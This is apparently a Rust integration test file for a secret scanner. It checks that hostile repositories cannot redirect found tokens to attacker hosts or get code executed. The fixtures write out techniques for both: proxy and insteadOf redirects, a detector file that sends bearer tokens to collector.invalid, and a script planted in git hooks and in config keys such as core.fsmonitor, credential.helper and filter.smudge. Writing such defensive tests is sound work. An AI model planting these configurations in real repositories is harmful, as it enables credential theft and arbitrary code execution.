//! Repositories that were made to hurt whoever scans them: by collecting tokens, or by having
//! something executed.
#![cfg(unix)]

mod common;

use std::fs;
use std::sync::Mutex;
use std::time::Duration;

use common::{Folder, Listener, endpoint, offline, overscope, replica, token};
use overscope::demo::{Trouble, World, repository};
use overscope::detector::{Detectors, sample};
use overscope::inspect::request::Request;
use overscope::inspect::transport::{Allowed, Failure, Http, Reply, Transport};
use overscope::inspect::{self, Asking};
use overscope::scan::Scanner;
use overscope::secret::FingerprintKey;

/// Writes down where it is sent, and lets through what the real door lets through.
struct Watching {
    door: Http,
    sent: Mutex<Vec<String>>,
}

impl Transport for Watching {
    fn send(&self, request: &Request, allowed: &Allowed, _: Duration) -> Result<Reply, Failure> {
        request.check().map_err(|why| Failure::Forbidden(why.0))?;
        let local = request.host().contains("127.0.0.1") || request.host() == "localhost";
        if local {
            // Only the real door decides whether this leaves.
            let reply = self.door.send(request, allowed, Duration::from_secs(2));
            assert!(matches!(reply, Err(Failure::Forbidden(_))), "{request:?} left: {reply:?}");
        }
        allowed.check(request.url())?;
        self.sent.lock().unwrap().push(request.origin());
        Err(Failure::Timeout)
    }
}

/// Whatever stands beside a credential in a file, its secret goes to its provider's own hosts.
#[test]
fn an_address_in_a_file_is_never_sent_a_token() {
    let listener = Listener::answering(200, "", "{}");
    let at = listener.url();
    let detectors = Detectors::load(&[]).unwrap();
    let scanner = Scanner::new(&detectors);
    let door = Watching { door: Http::new(None).unwrap(), sent: Mutex::default() };
    for number in 0..detectors.len() {
        let detector = detectors.detector(number);
        let provider = detectors.provider_of(number);
        let name = provider.id.to_uppercase().replace('-', "_");
        for template in &detector.examples {
            let example = sample::generate(template, 11).unwrap().text;
            let around: String =
                ["URL", "API", "API_URL", "BASE_URL", "HOST", "ENDPOINT", "ENDPOINT_URL", "API_BASE", "SERVER", "ADDR"]
                    .iter()
                    .map(|end| format!("{name}_{end}={at}\n"))
                    .collect();
            let text = format!("{around}{example}\n{around}url: {at}/{example}\n[remote]\nurl = {at}\n");
            let found = scanner.text("hostile.env", &text, &FingerprintKey::fixed());
            inspect::inspect(found, &detectors, &Asking::default(), Some(&door), None);
        }
        for origin in door.sent.lock().unwrap().drain(..) {
            let host = origin.trim_start_matches("https://");
            let listed =
                |known: &String| known == host || known.strip_prefix('*').is_some_and(|end| host.ends_with(end));
            assert!(origin.starts_with("https://") && provider.hosts.iter().any(listed), "{}: {origin}", detector.id);
        }
    }
    assert_eq!(listener.seen(), [] as [String; 0]);
}

#[test]
fn the_real_program_asks_whom_the_user_named_and_nobody_else() {
    let listener = Listener::answering(200, "", "{}");
    let (at, port) = (listener.url(), listener.port());
    let replica = replica(World::nine_seconds(&repository::token()), Trouble::None);
    let folder = Folder::story(&repository::token());
    let addresses = format!(
        "GITLAB_URL={at}\nRAILWAY_API={at}\nRAILWAY_API_URL={at}/graphql/v2\nGITHUB_API_URL={at}\nAWS_ENDPOINT_URL={at}\n\
         HTTPS_PROXY={at}\nhttp_proxy={at}\nOVERSCOPE_ENDPOINT=railway={at}\n"
    );
    let token = repository::token();
    folder.write(".env", format!("{addresses}RAILWAY_TOKEN={token}\n{addresses}"));
    folder.write(".railway/config.json", format!("{{\"railwayApi\": \"{at}\", \"railwayToken\": \"{token}\"}}\n"));
    folder.write("src/main.py", format!("requests.post('{at}/railway', headers={{'railway-token': '{token}'}})\n"));
    folder.write("nested/overscope.toml", format!("detectors = ['evil.toml']\n[endpoint]\nrailway = '{at}'\n"));
    folder
        .write(".curlrc", format!("proxy = {at}\n"))
        .write(".netrc", format!("machine 127.0.0.1:{port} login a password b\n"));
    folder.git(["config", "http.proxy", &at]);
    folder.git(["config", &format!("url.{at}/.insteadOf"), "https://backboard.railway.com/"]);
    folder.commit();
    let ran = overscope(["scan", "--ignored", "--format=json", &endpoint(&replica)]).at(folder.path()).run();
    assert_eq!((ran.status, ran.credential()["liveness"].as_str()), (1, Some("live")), "{}", ran.err);
    assert!(ran.paths().contains(&".env".to_owned()));
    assert_eq!((listener.seen(), replica.violations()), (Vec::new(), Vec::new()));
}

/// A detector file that the repository brings may look, but not send anybody's secrets anywhere.
#[test]
fn a_detector_file_of_the_repository_asks_nobody() {
    let listener = Listener::answering(200, "", "{\"ok\":true}");
    let evil = format!(
        r#"
id    = "collector"
name  = "Collector"
base  = "https://collector.invalid"
bases = {{ near = "https://127.0.0.1:{port}" }}
hosts = ["collector.invalid", "127.0.0.1"]
docs  = "https://collector.invalid"

[[detector]]
id       = "collected"
name     = "Collected key"
keywords = ["collectme_"]
pattern  = '''\b(?<secret>collectme_[0-9a-z]{{20}})\b'''
prefix   = "collectme_"
probe    = "send"
ceiling  = ["all"]
examples = ["<collectme_{{base36:20}}>"]

[probe.send]
auth = {{ bearer = "{{secret}}" }}
[[probe.send.step]]
id       = "collect"
what     = "everything"
identity = true
hides    = "powers"
get      = "{{base}}/collect"
[[probe.send.step]]
id       = "collect-near"
what     = "everything"
identity = true
hides    = "powers"
get      = "{{base.near}}/collect"

[grants]
"all" = [{{ can = ["read:secret"], reach = "account" }}]

[remedy]
revoke  = "https://collector.invalid"
replace = [{{ when = "any", with = "nothing" }}]
"#,
        port = listener.port()
    );
    let folder = Folder::repository();
    folder.write("overscope.toml", "detectors = ['evil.toml']\n").write("evil.toml", evil);
    folder.write(".env", sample::generate("KEY=<collectme_{base36:20}>", 5).unwrap().text);
    let call = || overscope(["scan", "--format=json", "--deadline=5"]).at(folder.path());
    let ran = call().run();
    let credential = ran.credential();
    assert_eq!(
        (credential["detector"].as_str(), credential["liveness"].as_str()),
        (Some("collected"), Some("not-asked"))
    );
    assert_eq!(ran.json()["stats"]["requests"], 0);
    assert!(!ran.err.contains("asking"), "{}", ran.err);
    let dry = call().arg("--dry-run").run();
    assert!(!dry.out.contains("collector.invalid"), "{}", dry.out);
    // One credential on standard input belongs to no repository, wherever it is given.
    let collected = sample::generate("<collectme_{base36:20}>", 6).unwrap().text;
    let inspected = overscope(["inspect", "--deadline=5"]).at(folder.path()).stdin(collected).run();
    assert_eq!(inspected.status, 2);
    assert!(inspected.err.contains("fits no detector"), "{}", inspected.err);
    // The user may trust a configuration by naming it; then it is asked as it says.
    let named = call().arg("--config=overscope.toml").arg("--dry-run").run();
    assert!(named.out.contains("GET https://collector.invalid/collect"), "{}", named.out);
    assert_eq!(listener.seen(), [] as [String; 0]);
}

#[test]
fn nothing_that_the_repository_names_is_executed() {
    let folder = Folder::repository();
    let mark = folder.file("executed");
    let script = format!("#!/bin/sh\necho \"$0 $*\" >> '{}'\n", mark.display());
    folder.write("evil.sh", &script);
    let evil = folder.file("evil.sh");
    fs::set_permissions(&evil, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    folder.write("a.env", format!("RAILWAY_TOKEN={}\n", token(1)));
    folder.write(".gitignore", "ignored.env\n").write("ignored.env", format!("RAILWAY_TOKEN={}\n", token(2)));
    folder.write(".gitattributes", "* filter=evil diff=evil merge=evil\n");
    folder.commit();
    let evil = evil.to_str().unwrap();
    for (name, value) in [
        ("core.fsmonitor", evil.to_owned()),
        ("core.hooksPath", folder.path().to_str().unwrap().to_owned()),
        ("core.pager", evil.to_owned()),
        ("core.editor", evil.to_owned()),
        ("core.sshCommand", evil.to_owned()),
        ("core.askPass", evil.to_owned()),
        ("core.gitProxy", evil.to_owned()),
        ("credential.helper", format!("!{evil}")),
        ("diff.external", evil.to_owned()),
        ("diff.evil.textconv", evil.to_owned()),
        ("filter.evil.clean", evil.to_owned()),
        ("filter.evil.smudge", evil.to_owned()),
        ("filter.evil.process", evil.to_owned()),
        ("gpg.program", evil.to_owned()),
        ("uploadpack.packObjectsHook", evil.to_owned()),
        ("alias.ls-files", format!("!{evil}")),
        ("alias.config", format!("!{evil}")),
        ("pager.ls-files", evil.to_owned()),
    ] {
        folder.git(["config", name, &value]);
    }
    for hook in ["post-index-change", "fsmonitor-watchman", "post-checkout", "pre-commit", "query-watchman"] {
        folder.write(format!(".git/hooks/{hook}"), &script);
        fs::set_permissions(
            folder.file(format!(".git/hooks/{hook}")),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
        fs::copy(evil, folder.file(hook)).unwrap();
    }
    let ran = offline(&folder);
    assert_eq!((ran.status, ran.paths()), (1, vec!["a.env".to_owned(), "ignored.env".to_owned()]), "{}", ran.err);
    let single = overscope(["scan", "--offline", "ignored.env"]).at(folder.path()).run();
    assert_eq!(single.status, 1);
    assert!(!mark.exists(), "{}", fs::read_to_string(mark).unwrap());
}
